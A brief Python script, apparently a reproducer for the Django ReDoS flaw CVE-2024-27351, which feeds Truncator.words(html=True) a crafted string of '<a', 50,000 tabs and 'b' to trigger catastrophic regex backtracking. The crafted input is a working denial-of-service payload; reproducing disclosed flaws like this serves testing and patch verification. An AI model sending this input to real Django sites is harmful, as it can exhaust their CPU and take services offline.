# PYSEC-2024-47 (CVE-2024-27351): Django before 4.2.11, Truncator.words(html=True) uses a regex that backtracks
# catastrophically on crafted HTML (ReDoS).
from django.conf import settings

settings.configure(USE_I18N=False)
from django.utils.text import Truncator  # noqa: E402

Truncator("<a" + "\t" * 50000 + "b").words(1, html=True)
